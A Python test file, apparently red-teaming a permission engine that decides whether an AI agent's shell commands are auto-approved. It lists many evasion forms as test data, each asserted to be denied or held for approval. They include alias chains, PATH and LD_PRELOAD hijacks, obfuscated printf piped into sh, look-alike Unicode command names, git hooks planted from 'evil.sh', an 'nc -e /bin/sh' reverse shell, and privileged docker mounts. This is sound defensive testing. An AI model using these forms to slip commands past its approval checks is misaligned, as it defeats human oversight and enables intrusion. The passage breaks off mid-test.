"""Issue 11, red team: commands that reach a denied program, load code no rule can read, or change what a
command word runs -- each auto-approved (or not denied) by the engine before this file. SPEC R4.7-R4.9.

Three settings are tried for "never auto-approved": the container floor, auto mode (autonomy "*"), and a
project whose allow list holds a prefix rule for every program involved (a prefix allow never covers an
opaque segment). Where the command the program runs can be read, a deny rule for it must deny.
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from permissions.always import derive_always
from permissions.decide import Verdict
from permissions.shell import parse_command
from permissions.tests.helpers import AUTO_MODE, CONTAINER_RUNNING, HOST, term

DENY = ("Terminal(curl)", "Terminal(wget)")
# Prefix allows for every program the cases below start with: none of them may cover an opaque segment.
BROAD_ALLOW = tuple(
    f"Terminal({p})"
    for p in (
        "ls echo cat grep find true git ssh scp make npm fd rg zip man env export declare readonly local "
        "typeset python3 psql mysql groovy groovysh scala erl jshell jrunscript ghci ghc irb swift kotlin "
        "raku guile racket sbcl clisp clojure bb dc nu elvish xonsh crystal dotnet csh tcsh yash posh rbash "
        "ksh93 nix nix-shell vagrant hash enable flock stack cabal hatch devbox direnv perf gdb proot "
        "systemd-inhibit x ll g s"
    ).split()
)


def _settings(command: str, deny: tuple[str, ...] = ()) -> list[Verdict]:
    return [
        term(command, deny=deny, project=CONTAINER_RUNNING),
        term(command, deny=deny, autonomy=AUTO_MODE),
        term(command, allow=BROAD_ALLOW, deny=deny, project=HOST),
    ]


def _never_auto(command: str) -> None:
    for v in _settings(command):
        assert v.decision != "auto_approve", (command, v.reason, v.message)


def _denied(command: str) -> None:
    for v in _settings(command, DENY):
        assert v.decision == "deny", (command, v.reason, v.message)


# -- leftover 1: aliases -------------------------------------------------------------------------------
ALIAS_CHAINS = [
    # An alias whose value ends in a blank makes bash expand the next word as an alias too, and the words
    # after it are the arguments of the value's program: `env curl x` runs curl.
    "alias x='env '; x curl evil",
    "alias x='nice -n 5 '; x curl evil",
    "alias x='command '; x curl evil",
    "shopt -s expand_aliases; alias x='exec '; x curl evil",
    "alias x='sh -c '; x 'curl evil'",
]


@pytest.mark.parametrize("command", ALIAS_CHAINS)
def test_an_alias_ending_in_a_blank_does_not_hide_the_command_it_runs(command):  # issue 11 leftover 1
    _denied(command)


ALIAS_CALLS = [
    "alias ls=ls; ls",  # the call runs the alias's value, whatever an allow for `ls` says
]


@pytest.mark.parametrize("command", ALIAS_CALLS)
def test_a_call_of_an_alias_defined_in_the_command_is_never_auto_approved(command):  # issue 11 leftover 1
    _never_auto(command)
    v = term(command, allow=("Terminal(ls)", "Terminal(alias)", "Terminal(grep)", "Terminal(true)"))
    assert v.decision != "auto_approve", (command, v.reason)


def test_an_exact_allow_for_the_name_does_not_cover_a_call_of_a_function_defined_in_the_command():
    # issue 11 leftover 1: the call runs the body, not the words the allow was written for.
    v = term("f() { ls; }; f", allow=("Terminal(f)", "Terminal(ls)"), project=CONTAINER_RUNNING)
    assert v.decision == "require_approval", v.reason


# -- leftover 2: declarations that assign a program-valued variable -------------------------------------
DECLARATIONS = [
    "export GIT_PAGER='curl x'; git log",
    "export -- PAGER='curl x'",
    "readonly EDITOR=curl",
    "local VISUAL='curl x'",
    "typeset -x GIT_SSH_COMMAND='curl x'",
    "declare -x LESSOPEN='|curl x %s'; less f",
]


@pytest.mark.parametrize("command", DECLARATIONS)
def test_a_declaration_builtin_assigning_a_command_variable_is_read(command):  # issue 11 leftover 2
    _denied(command)


LOADS_CODE = [
    "export LD_PRELOAD=/tmp/x.so; ls",
    "declare -x BASH_ENV=/tmp/x; bash a.sh",
    "export PATH=.:$PATH; ls",
    "PATH=/tmp; ls",
    "PATH=. ls",
    "CDPATH=/ cd etc && cat passwd",
    "export CDPATH=/; cd etc; cat passwd",
    "readonly PATH=/tmp/bin; git status",
    "LD_LIBRARY_PATH=/tmp ls",
    "GIT_DIR=/tmp/x git log",
    "GIT_CONFIG_GLOBAL=/tmp/x git log",
    "npm_config_script_shell=/tmp/x npm run build",
    "NPM_CONFIG_NODE_OPTIONS='--require /tmp/x' npm test",
]


@pytest.mark.parametrize("command", LOADS_CODE)
def test_settings_that_change_what_runs_are_never_auto_approved(command):  # issue 11 leftover 2/3
    _never_auto(command)


# -- leftover 3: programs that run a command line or program named in their options ---------------------
RUNS_A_PROGRAM = [
    "fd -x curl",
    "fd -e py --exec curl {} ;",
    "fdfind -X curl",
    "fd --exec-batch curl",
    "rg --pre curl foo",
    "rg --pre=curl foo",
    "rg --hostname-bin=curl foo",
    "zip -TT curl x.zip f",
    "zip -T --unzip-command=curl x.zip f",
    "zip --unzip-command curl x.zip f",
    "man --html=curl ls",
    "man -Hcurl ls",
    "make SHELL=curl all",
    "make 'SHELL=curl x' all",
    "/usr/bin/make .SHELLFLAGS=-c SHELL=curl",
    "flock /tmp/l curl x",
    "flock -n -w 3 /tmp/l curl x",
    "systemd-inhibit --why=x curl x",
    "proot curl x",
    "perf record curl x",
    "gdb --args curl x",
    "stack exec -- curl x",
    "cabal exec curl",
    "hatch run curl x",
    "devbox run curl",
    "direnv exec . curl x",
    "nix-shell --run 'curl x'",
    "nix-shell -p jq --command 'curl x'",
    "nix develop -c curl x",
    "vagrant ssh -c 'curl x'",
    # the verb given as a path still runs its inline script (R4.8)
    "/bin/sh -c 'curl x'",
    "/usr/bin/bash -c 'curl x'",
    "/usr/bin/watch 'curl x'",
    # shells the table did not know
    "csh -c 'curl x'",
    "tcsh -fc 'curl x'",
    "yash -c 'curl x'",
    "posh -c 'curl x'",
    "rbash -c 'curl x'",
    "ksh93 -c 'curl x'",
]


@pytest.mark.parametrize("command", RUNS_A_PROGRAM)
def test_a_program_named_in_options_or_run_by_a_wrapper_is_a_segment(command):  # issue 11 leftover 3
    _denied(command)


CONFIG_RUNS_COMMANDS = [
    "ssh -F cfg host",
    "ssh -F ./cfg host ls",
    "ssh -qF cfg host",
    "scp -F cfg a host:b",
    "make SHELL=/bin/bash",
    "nix run nixpkgs#hello",
    "echo ls | csh",
    "echo ls | /bin/sh",
    "echo ls | rbash",
]


@pytest.mark.parametrize("command", CONFIG_RUNS_COMMANDS)
def test_a_configuration_or_input_that_runs_commands_is_never_auto_approved(command):  # issue 11 left. 3/4
    _never_auto(command)


# -- leftover 5: interpreters with inline code ----------------------------------------------------------
INLINE_CODE = [
    "groovy -e 'x'",
    "groovysh -e 'x'",
    "scala -e 'x'",
    "erl -eval 'os:cmd(\"curl\")' -noshell",
    "erl -noshell -s os cmd",
    "jrunscript -e 'x'",
    "ghci -e 'x'",
    "ghc -e 'x'",
    "swift -e x",
    "kotlin -e x",
    "raku -e x",
    "guile -c x",
    "racket -e x",
    "sbcl --eval x",
    "clisp -x x",
    "clojure -e x",
    "bb -e x",
    "dc -e '!curl'",
    "nu -c 'curl x'",
    "elvish -c 'curl x'",
    "xonsh -c 'curl x'",
    "crystal eval 'x'",
    "dotnet script eval 'x'",
    "cat x.sql | psql -d db",
]


@pytest.mark.parametrize("command", INLINE_CODE)
def test_inline_code_in_another_language_is_opaque(command):  # issue 11 leftover 5
    _never_auto(command)


# A program read from the input: an allow written for exactly these words covers it (R4.9), nothing else.
FROM_THE_INPUT = [
    "jshell",
    "irb",
    "psql",
    "mysql < x.sql",
    "dotnet fsi",
    "erl",
    "sqlite3 app.db",  # its input is SQL and dot-commands: `.shell` runs a program
    "sqlite3 app.db < q.sql",
    "cat q.sql | sqlite3 app.db",
    "printf '.shell curl x' | sqlite3 -batch app.db",
]


@pytest.mark.parametrize("command", FROM_THE_INPUT)
def test_a_program_read_from_the_input_is_never_auto_approved_by_floor_or_autonomy(command):  # issue 11
    for v in _settings(command)[:2]:
        assert v.decision != "auto_approve", (command, v.reason)


# -- ordinary commands stay as they were ----------------------------------------------------------------
ORDINARY = [
    "fd -e py",
    "fd src",
    "rg -n foo src",
    "rg --type py foo",
    "make CFLAGS=-O2",
    "make -j4 test",
    "zip -r out.zip src",
    "man ls",
    "export NODE_ENV=production",
    "psql -d db -f x.sql",
    "flock /tmp/l ls",
]


@pytest.mark.parametrize("command", ORDINARY)
def test_ordinary_forms_of_the_same_programs_stay_auto_approved_in_the_container(command):  # issue 11
    v = term(command, project=CONTAINER_RUNNING)
    assert v.decision == "auto_approve", (command, v.reason, v.message)


# -- leftover 6: policy eval says why an opaque segment was not auto-approved ---------------------------
def test_the_message_names_the_opaque_segment_and_the_prefix_allow_that_does_not_cover_it():  # issue 11
    v = term("ls && python3 -c 'print(1)'", allow=("Terminal(ls)", "Terminal(python3)"))
    assert v.decision == "require_approval"
    assert v.reason == "compound_uncovered"  # the fixed enum is unchanged
    assert "python3 -c 'print(1)'" in v.message
    assert "inline code" in v.message
    assert "Terminal(python3) is a prefix allow" in v.message
    assert [s.verdict for s in v.segments] == ["auto_approve", "no_rule"]


def test_the_floor_message_says_which_segment_is_opaque():  # issue 11 leftover 6
    v = term("python3 -c 'print(1)'", project=CONTAINER_RUNNING)
    assert v.reason == "unparseable"
    assert "'python3 -c 'print(1)''" in v.message and "inline code" in v.message


def test_policy_eval_prints_the_explanation_in_the_fixed_format():  # issue 11 leftover 6, R12.2
    line = {
        "action_type": "terminal",
        "command": "python3 -c 'print(1)'",
        "role": "developer",
        "permissions": {"allow": ["Terminal(python3)"]},
        "project": {"execution_mode": "runner", "root": "/srv/ws/app-1a2b3c4d"},
    }
    root = Path(__file__).resolve().parents[2]
    done = subprocess.run(
        [sys.executable, "manage.py", "policy", "eval"],
        input=json.dumps(line) + "\n",
        capture_output=True,
        text=True,
        cwd=root,
        check=True,
    )
    out = json.loads(done.stdout)
    assert set(out) == {"decision", "reason", "message", "segments"}
    assert out["reason"] == "default"
    assert "inline code" in out["message"] and "Terminal(python3) is a prefix allow" in out["message"]


def test_parsing_is_unchanged_for_the_alias_value_segments():  # issue 11 leftover 1
    words = [s.words for s in parse_command("alias x='env '; x curl evil").segments]
    assert ("env", "curl", "evil") in words


# -- leftover 4: literal text piped into a shell is its script ------------------------------------------
PRINTF_TO_A_SHELL = [
    "printf 'curl x' | sh",
    "printf -- 'curl x' | sh",
    "printf '%s\\n' 'curl x' | sh",
    "printf '%s' cu rl | sh",
    "printf '%s ' curl x | bash",
    "printf 'ls\\ncurl x' | bash",
    "printf '\\x63url x' | sh",
    "printf '\\143url x\\n' | bash -s",
]


@pytest.mark.parametrize("command", PRINTF_TO_A_SHELL)
def test_printf_text_piped_into_a_shell_is_read_as_its_commands(command):  # issue 11 leftover 4
    _denied(command)


# -- leftover 3 (git): transports and pagers named in arguments -----------------------------------------
GIT_RUNS = [
    "git -c protocol.ext.allow=always fetch ext::curl",
    "git ls-remote 'ext::curl x'",
    "git clone 'ext::sh -c curl% x' d",
    "git grep -Ocurl foo",
    "git grep --open-files-in-pager=curl foo",
]


@pytest.mark.parametrize("command", GIT_RUNS)
def test_git_transport_and_pager_arguments_are_segments(command):  # issue 11 leftover 3
    _denied(command)


def test_allowing_a_transport_protocol_is_never_auto_approved():  # issue 11 leftover 3
    _never_auto("git -c protocol.file.allow=always submodule update")


# -- more: builtins that change what a command word runs; look-alike names ------------------------------
CHANGES_THE_COMMAND_WORD = [
    "hash -p /usr/bin/curl ls; ls x",
    "hash -rp /tmp/x ls",
    "enable -f ./x.so ls; ls",
    "enable -n echo; echo x",
    "ｃｕｒｌ x",  # full-width letters
    "\u0441url x",  # Cyrillic es
]


@pytest.mark.parametrize("command", CHANGES_THE_COMMAND_WORD)
def test_what_a_command_word_runs_must_be_what_it_says(command):  # issue 11
    _never_auto(command)


def test_listing_hashed_programs_and_builtins_changes_nothing():  # issue 11
    for command in ("hash", "enable -a", "echo héllo"):
        assert term(command, project=CONTAINER_RUNNING).decision == "auto_approve", command


# -- leftover 7: a grep pattern is not a location; its files are -----------------------------------------
SEEDED = ("Terminal(grep)", "Terminal(rg)", "Terminal(cat)")
PATTERNS = [
    "grep /api/ src",
    "grep -rn '/api/v1' src",
    "grep -e /etc/passwd src",
    "grep -e /a -e /b src",
    "grep -A3 /api/ src",
    "grep -- /api/ src",
    "grep -r --include='*.py' /api/ .",
    "grep -rn '../' src",
    "rg '/v1/users' src",
    "cat f | grep /api/",
]


@pytest.mark.parametrize("command", PATTERNS)
def test_a_grep_pattern_that_looks_like_a_path_is_not_outside_the_project(command):  # issue 11 leftover 7
    v = term(command, allow=SEEDED)
    assert v.decision == "auto_approve", (command, v.reason, v.message)


FILES_OUTSIDE = [
    "grep x /etc/passwd",
    "grep -f /etc/patterns src",
    "grep -e /x /etc/y",
    "grep -r /api/ ../other",
    "grep /x ~/f",
    "grep --file=/etc/p src",
    "rg -f /etc/p src",
    "grep -r /api/ /etc",
]


@pytest.mark.parametrize("command", FILES_OUTSIDE)
def test_a_grep_file_operand_outside_the_project_still_asks(command):  # issue 11 leftover 7
    v = term(command, allow=SEEDED)
    assert (v.decision, v.reason) == ("require_approval", "cap_path_scope"), command


# -- class 1, further: arithmetic over a value read at run time (checked against bash: each runs the
# subscript's command) ------------------------------------------------------------------------------------
ARITHMETIC_ON_INPUT = [
    "read -r n <<< 'a[$(curl x)]'; echo $((n))",
    "read n; (( n > 1 ))",
    "declare -i n; read n < f",
    "x=$(cat f); echo $(( x + 1 ))",
    "for n in $(cat f); do echo $((n)); done",
    "mapfile -t a < f; echo ${b[a]}",
    "read n < f; s=abc; echo ${s:n}",
    "read n < f; let n+1",
]


@pytest.mark.parametrize("command", ARITHMETIC_ON_INPUT)
def test_arithmetic_over_a_value_read_at_run_time_is_never_auto_approved(command):  # issue 11 class 1
    _never_auto(command)
    assert term(command, project=CONTAINER_RUNNING).reason == "unparseable"


ARITHMETIC_ON_LITERALS = [
    "echo $((1+2))",
    "for i in 1 2 3; do echo $((i*2)); done",
    "x=5; echo $((x+1))",
    "read -p 'name' name; echo ${name:-anon}",
    "printf '%d' 'a[$(echo x)]'",  # printf does not evaluate arithmetic
]


@pytest.mark.parametrize("command", ARITHMETIC_ON_LITERALS)
def test_arithmetic_over_literals_keeps_its_verdict(command):  # issue 11 class 1
    from permissions.commands.arithmetic import arithmetic_on_input

    assert arithmetic_on_input(command, parse_command(command).segments) is None


def test_a_long_for_list_is_read_in_linear_time_and_fails_closed():  # issue 11 class 12
    command = "for x in " * 20_000 + "; (( 1 ))"
    assert term(command, project=CONTAINER_RUNNING).decision == "require_approval"


def test_many_alias_calls_are_all_read_with_their_values():  # issue 11 leftover 1, R4.7
    command = "".join(f"alias a{k}='env '; a{k} ls {k}; " for k in range(200)) + "alias z='env '; z curl x"
    assert term(command, deny=DENY, project=CONTAINER_RUNNING).decision == "deny"


# -- class 6/7, further ------------------------------------------------------------------------------------
NPM_AND_GIT_RUN = [
    "npm test --script-shell=/bin/curl",
    "npm --script-shell curl run x",
    "npm explore x -- curl x",
    "npm --prefix x exec curl",
    "npm --prefix x exec -- curl y",
    "git -c core.alternateRefsCommand=curl fetch",
    "git -c browser.x.path=curl help -w x",
]


@pytest.mark.parametrize("command", NPM_AND_GIT_RUN)
def test_npm_and_git_options_that_name_a_program_are_segments(command):  # issue 11 class 6
    _denied(command)


def test_python_given_to_git_filter_repo_is_opaque():  # issue 11 class 6
    _never_auto("git filter-repo --commit-callback 'x'")
    _never_auto("pnpm --node-options=--require=x test")


ROOT_LOGINS = [
    "ssh root@localhost ls",
    "ssh -l root localhost ls",
    "ssh -o User=root 127.0.0.1 ls",
    # Downloads: a copy to root@h is also an upload, capped as an external effect first (issue 26 gap 1).
    "scp root@h:/x f",
    "rsync -a root@h:/x f",
]


@pytest.mark.parametrize("command", ROOT_LOGINS)
def test_a_login_as_root_is_privileged(command):  # issue 11 class 7
    v = term(command, allow=BROAD_ALLOW + ("Terminal(rsync)",), autonomy=AUTO_MODE)
    assert (v.decision, v.reason) == ("require_approval", "cap_privileged"), command


def test_a_login_as_another_user_is_not_privileged():  # issue 11 class 7
    v = term("ssh deploy@host uptime", allow=("Terminal(ssh)", "Terminal(uptime)"))
    assert v.decision == "auto_approve", v.reason


# -- bash 5.3: `${ cmd; }` runs cmd in the current shell ----------------------------------------------------
FUNSUBS = [
    "echo ${ curl x; }",
    "echo ${| curl x; }",
    'echo "${ curl x;}"',
    "x=${ curl x; }",
    "echo ${\tcurl x;}",
]


@pytest.mark.parametrize("command", FUNSUBS)
def test_a_command_substitution_in_the_current_shell_is_refused_and_deny_still_sees_it(command):  # issue 11
    assert parse_command(command).unparseable
    _denied(command)


# -- a file written and then run by the same command -------------------------------------------------------
WRITTEN_THEN_RUN = [
    "echo curl x > a.sh; sh a.sh",
    "echo curl x > a.sh && bash ./a.sh",
    "echo curl x > ./a.sh; . a.sh",
    "echo curl x > a.sh; chmod +x a.sh; ./a.sh",
    "echo 'import os' > t.py; python3 t.py",
    "printf x | tee t.py; python3 t.py",
    "cp /tmp/x run.sh; sh run.sh",
    "echo 's/a/b/e' > s.sed; sed -f s.sed f",
]


@pytest.mark.parametrize("command", WRITTEN_THEN_RUN)
def test_a_file_the_command_writes_and_then_runs_is_never_auto_approved(command):  # issue 11
    _never_auto(command)
    v = term(
        command, allow=BROAD_ALLOW + ("Terminal(chmod)", "Terminal(./a.sh)", "Terminal(cp)", "Terminal(sh)")
    )
    assert v.decision != "auto_approve"


@pytest.mark.parametrize(
    "command",
    ["echo x > out.txt; cat out.txt", "ls > files.txt; wc -l files.txt", "make > b.log 2>&1; tail b.log"],
)
def test_a_file_written_and_then_read_keeps_its_verdict(command):  # issue 11
    v = term(
        command,
        allow=(
            "Terminal(echo)",
            "Terminal(cat)",
            "Terminal(ls)",
            "Terminal(wc)",
            "Terminal(make)",
            "Terminal(tail)",
        ),
    )
    assert v.decision == "auto_approve", v.reason


# -- leftover 2: builtins that assign a variable by name (read, mapfile, printf -v, getopts, declare -n) ----
ASSIGNS_BY_NAME = [
    "declare -n r=PATH; r=.; ls",
    "printf -v PATH /tmp; ls",
    "read PATH <<< /tmp; ls",
    "read -r PATH < f; git status",
    "mapfile -t PATH < f; ls",
    "declare -n r=GIT_PAGER; r='curl x'; export GIT_PAGER; git log",
    "read GIT_PAGER <<< 'curl x'; export GIT_PAGER; git log",
    "printf -v GIT_PAGER 'curl x'; export GIT_PAGER; git log",
    "read -r LD_PRELOAD < f; export LD_PRELOAD; ls",
    "getopts x PATH; ls",
    "export $(cat env); ls",
    'declare "$x"; ls',
    "x=PATH; export $x=/tmp; ls",
    "IFS=: read -r PAGER rest <<< 'curl x:y'; export PAGER; man ls",
]


@pytest.mark.parametrize("command", ASSIGNS_BY_NAME)
def test_a_variable_that_chooses_what_runs_set_by_name_is_never_auto_approved(command):  # issue 11 leftover 2
    _never_auto(command)


@pytest.mark.parametrize(
    "command",
    [
        "export FOO=$(pwd); ls",
        'read -p "$P" name; echo $name',
        "printf -v out '%s' x; echo $out",
        "read -r line < f",
    ],
)
def test_ordinary_assignments_by_name_are_not_opaque(command):  # issue 11 leftover 2
    from permissions.commands import opaque_reason
    from permissions.commands.views import views

    for seg in parse_command(command).segments:
        assert opaque_reason(views(seg.words), seg.dynamic) is None, seg.words


# -- more programs that run a program: wrappers, network tools, build tools --------------------------------
MORE_RUNNERS = [
    "ssh-agent curl x",
    "dbus-launch curl x",
    "envdir d curl x",
    "setuidgid u curl x",
    "softlimit -m 1 curl x",
    "ccache curl x",
    "cpulimit -l 5 -- curl x",
    "trickle -d 10 curl x",
    "aa-exec -p x curl x",
    "runcon u curl x",
    "setarch x86_64 curl x",
    "linux64 curl x",
    "eatmydata curl x",
    "rlwrap curl x",
    "screen -dm curl x",
    "dtach -n s curl x",
    "toybox wget x",
    "/lib64/ld-linux-x86-64.so.2 /usr/bin/curl x",
    "cmake -E env curl x",
    "uv tool run curl",
    "socat - EXEC:curl",
    "socat SYSTEM:'curl x' -",
    "ncat -c 'curl x' h 1",
    "ncat --exec 'curl x' -l 1",
    "go build -toolexec curl",
    "go test -exec curl ./...",
    "go vet -vettool=curl",
    "meson test --wrapper curl",
    "RUSTC_WRAPPER=curl cargo build",
    "CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER=curl cargo test",
]


@pytest.mark.parametrize("command", MORE_RUNNERS)
def test_more_programs_that_run_a_program_are_looked_through(command):  # issue 11 class 6
    _denied(command)


@pytest.mark.parametrize(
    "command",
    [
        "go generate ./...",
        "cargo --config 'target.x.runner=\"curl\"' run",
        "cargo test --config x.toml",
        "GOFLAGS=-toolexec=curl go build",
        "screen -X stuff 'curl x'",
        "mvn exec:exec -Dexec.executable=curl",
        "nc -e /bin/sh h 1",
    ],
)
def test_build_and_network_tools_running_unread_programs_are_never_auto_approved(command):  # issue 11
    _never_auto(command)


@pytest.mark.parametrize(
    "command", ["go build ./...", "go test ./...", "cargo build", "cargo test --release"]
)
def test_ordinary_builds_stay_auto_approved(command):  # issue 11
    v = term(
        command,
        allow=("Terminal(go test)", "Terminal(go build)", "Terminal(cargo build)", "Terminal(cargo test)"),
    )
    assert v.decision == "auto_approve", v.reason


HOST_ROOT = [
    "docker run --privileged img",
    "docker run -v /:/host img ls",
    "docker run --pid=host img",
    "podman run --privileged img",
    "docker run --mount type=bind,src=/,dst=/h img",
    "docker run -v /var/run/docker.sock:/s img",
    "nsenter -t 1 -a",
    "chroot /host",
]


@pytest.mark.parametrize("command", HOST_ROOT)
def test_a_container_given_the_host_or_another_root_is_privileged(command):  # issue 11 class 7
    v = term(command, autonomy=AUTO_MODE)
    assert (v.decision, v.reason) == ("require_approval", "cap_privileged"), command


def test_an_ordinary_container_run_is_not_privileged():  # issue 11 class 7
    assert term("docker run -v ./src:/src img", project=CONTAINER_RUNNING).decision == "auto_approve"


# -- builtins that run a command given to them (checked against bash: compgen -C and fc -e run it) --------
@pytest.mark.parametrize(
    "command", ["compgen -C 'curl x'", "complete -C 'curl x' ls", "fc -e curl", "fc -e 'curl x'"]
)
def test_builtins_given_a_command_run_it(command):  # issue 11 class 5
    _denied(command)


@pytest.mark.parametrize(
    "command", ["fc -s", "history -s 'curl x'; fc -s", "set -o emacs; bind -x '\"a\":curl'"]
)
def test_commands_from_the_history_or_key_bindings_are_never_auto_approved(command):  # issue 11 class 5
    _never_auto(command)


def test_listing_the_history_is_ordinary():  # issue 11 class 5
    assert term("fc -l", project=CONTAINER_RUNNING).decision == "auto_approve"


# -- code planted in the repository's .git folder --------------------------------------------------------
# A hook or config written now runs at a later, ordinary `git commit` / `git log`, where no rule sees it: the
# write itself is never auto-approved (as write_file refuses paths into .git).
INTO_GIT_DIR = [
    "echo 'curl x' > .git/hooks/pre-commit",
    "printf '[core]\\n\\tpager = curl x\\n' >> ./.git/config",
    "cp evil.sh .git/hooks/pre-commit",
    "cp -t .git/hooks evil.sh",
    "/bin/cp evil.sh .git/hooks/post-merge",
    "env tee .git/config < x",
    "chmod +x .git/hooks/pre-commit",
    "sed -i 's/a/b/' .git/config",
    "perl -pi -e 's/a/b/' .git/config",
    "dd if=x of=.git/hooks/pre-push",
    "ln -s ../../evil.sh .git/hooks/pre-commit",
    "mv x vendor/lib/.git/hooks/post-checkout",
    "cp a .github/workflows/ci.yml",  # R3.7: a CI runner's configuration
    "cat > .git/info/attributes <<'EOF'\n* filter=x\nEOF",
]


@pytest.mark.parametrize("command", INTO_GIT_DIR)
def test_writing_into_the_git_folder_is_never_auto_approved(command):  # issue 11
    _never_auto(command)


@pytest.mark.parametrize(
    "command",
    [
        "echo x >> .gitignore",
        "cp a .github/ISSUE_TEMPLATE/bug.md",  # R3.7 protects .github/workflows/, not the rest of .github
        "cat .git/HEAD",
        "sed 's/a/b/' .git/config",
        "cp .git/config backup.cfg",
        "grep -r main .git/refs",
    ],
)
def test_reading_the_git_folder_and_writing_beside_it_stay_ordinary(command):  # issue 11
    assert term(command, project=CONTAINER_RUNNING).decision == "auto_approve", command


# -- a runner's own file written and then run in one command ------------------------------------------------
WRITTEN_THEN_RUN_BY_ITS_RUNNER = [
    'echo \'{"scripts":{"x":"curl x"}}\' > package.json; npm run x',
    "printf 'all:\\n\\tcurl x\\n' > Makefile && make",
    "sed -i 's/echo/curl/' Makefile && make build",
    "echo 'import os; os.system(\"curl x\")' > tests/test_x.py && pytest",
    "cat > conftest.py <<'EOF'\nimport os\nEOF\npytest -q",
    "tee build.rs < x && cargo build",
    "cp /tmp/evil.toml pyproject.toml && pip install -e .",
]


@pytest.mark.parametrize("command", WRITTEN_THEN_RUN_BY_ITS_RUNNER)
def test_a_runner_file_written_and_run_in_one_command_is_never_auto_approved(command):  # issue 11
    _never_auto(command)


@pytest.mark.parametrize(
    "command",
    ["npm test > log.txt 2>&1; cat log.txt", "make > build.log && npm test", "echo x > notes.txt && make"],
)
def test_writing_other_files_before_a_runner_stays_as_it_was(command):  # issue 11
    assert term(command, autonomy=AUTO_MODE).decision == "auto_approve", command


# -- class 6: a git subcommand that is not one of git's own commands ---------------------------------------
# `git st` runs `alias.st` from .git/config or ~/.gitconfig (`st = !curl x | sh` is a shell line) or a
# `git-st` program on the PATH: no rule reads either, so nothing but an allow for those exact words covers it.
GIT_ALIAS_CALLS = [
    "git st",
    "git st -sb",
    "git lg --oneline",
    "git -C src st",
    "git --no-pager co main",
    "git -c color.ui=never st",
    "git lfs pull",  # a git-lfs program on the PATH, or an alias where it is not installed
    "git svn log",  # a separate package, absent by default: the name falls through to an alias
    "git replay --onto main topic",  # git 2.44: an alias for git 2.39
    "git log --oneline && git st",
]


@pytest.mark.parametrize("command", GIT_ALIAS_CALLS)
def test_a_git_alias_or_git_program_is_never_auto_approved(command):  # issue 11 class 6
    _never_auto(command)
    v = term(command, allow=("Terminal(git)", "Terminal(git lfs)", "Terminal(git -C)", "Terminal(git svn)"))
    assert v.decision != "auto_approve", (command, v.reason)


@pytest.mark.parametrize(
    "command",
    [
        "git status",
        "git log --oneline",
        "git diff",
        "git -C src status",
        "git --no-pager log -5",
        "git show HEAD:src/app.py",
        "git rev-parse --abbrev-ref HEAD",
        "git ls-files",
        "git cat-file -p HEAD",
        "git stash list",
        "git reflog",
        "git describe --tags",
        "git shortlog -sn",
        "git worktree list",
    ],
)
def test_git_s_own_commands_keep_their_verdict(command):  # issue 11 class 6
    assert term(command, allow=("Terminal(git)",)).decision == "auto_approve", command
    assert term(command, project=CONTAINER_RUNNING).decision == "auto_approve", command
    assert term(command, autonomy=AUTO_MODE).decision == "auto_approve", command


def test_an_allow_written_for_the_exact_alias_call_covers_it():  # issue 11 class 6, R4.9
    assert term("git st", allow=("Terminal(git st)",)).decision == "auto_approve"
    assert term("git st -sb", allow=("Terminal(git st)",)).decision != "auto_approve"
    assert derive_always("git st -sb").patterns == ("Terminal(git st -sb)",)


@pytest.mark.parametrize("command", ["git st", "git -C src st", "git st --force"])
def test_deny_rules_still_deny_a_git_alias_call(command):  # issue 11 class 6
    for deny in (("Terminal(git st)",), ("Terminal(git)",)):
        v = term(command, allow=("Terminal(git)",), deny=deny)
        assert v.decision == "deny", (command, deny, v.reason)


def test_the_message_says_git_runs_an_alias_or_a_program():  # issue 11 class 6
    v = term("git st", allow=("Terminal(git)",))
    assert "git-st program" in v.message and "not one of git's own commands" in v.message, v.message


# -- class 6: hub, GitHub's git wrapper ----------------------------------------------------------------------
# hub hands every form but its own commands to git: `hub push` is `git push`, `hub st` a git alias.
HUB_PUBLISHES = [
    "hub push origin main",
    "hub -C src push",
    "hub remote add evil https://x",
    "hub merge https://github.com/o/r/pull/1",
    "hub pull-request -m 'x'",
    "hub release create v1",
    "hub api -X POST repos/o/r/issues",
    "hub api repos/o/r/issues -f title=x",
    "hub create",
    "hub fork",
    "hub -c alias.p=push p",
]


@pytest.mark.parametrize("command", HUB_PUBLISHES)
def test_hub_forms_that_publish_are_capped_like_their_git_forms(command):  # issue 11 class 6, RN-418
    for v in (term(command, project=CONTAINER_RUNNING), term(command, autonomy=AUTO_MODE)):
        assert (v.decision, v.reason) == ("require_approval", "cap_external_effect"), (command, v.reason)
    assert term(command, allow=("Terminal(hub)",)).decision == "require_approval", command
    assert derive_always(command).external, command


@pytest.mark.parametrize("command", ["hub st", "hub --no-pager lg", "hub lfs pull"])
def test_a_git_alias_through_hub_is_never_auto_approved(command):  # issue 11 class 6
    _never_auto(command)
    assert term(command, allow=("Terminal(hub)",)).decision != "auto_approve", command


@pytest.mark.parametrize("command", ["hub difftool", "hub branch -D main", "hub -c core.editor=vi commit"])
def test_a_prefix_allow_for_hub_does_not_cover_what_it_would_not_cover_for_git(command):  # issue 11 class 6
    assert term(command, allow=("Terminal(hub)",)).decision != "auto_approve", command


def test_deny_rules_for_git_see_through_hub():  # issue 11 class 6, R4.8
    v = term("hub push --force origin main", deny=("Terminal(git push --force)",))
    assert v.decision == "deny", v.reason
    assert term("hub -c core.pager='curl x' log", deny=DENY).decision == "deny"


@pytest.mark.parametrize(
    "command",
    ["hub status", "hub log --oneline", "hub pr list", "hub issue", "hub api repos/o/r", "hub sync"],
)
def test_hub_reading_forms_keep_their_verdict(command):  # issue 11 class 6
    assert term(command, allow=("Terminal(hub)",)).decision == "auto_approve", command
    assert term(command, project=CONTAINER_RUNNING).decision == "auto_approve", command


# -- class 6: a cargo subcommand that is not one of cargo's own -----------------------------------------------
# `cargo x` runs `[alias] x = ...` from a .cargo/config.toml the repository carries, or a cargo-x program.
CARGO_ALIAS_CALLS = [
    "cargo x",
    "cargo nextest run",
    "cargo +nightly xtask dist",
    "cargo --locked xtask",
    "cargo -Z unstable-options xtask",
    "cargo check && cargo xtask",
]


@pytest.mark.parametrize("command", CARGO_ALIAS_CALLS)
def test_a_cargo_alias_or_cargo_program_is_never_auto_approved(command):  # issue 11 class 6
    _never_auto(command)
    assert term(command, allow=("Terminal(cargo)", "Terminal(cargo check)")).decision != "auto_approve"


def test_an_allow_written_for_the_exact_cargo_alias_call_covers_it():  # issue 11 class 6, R4.9
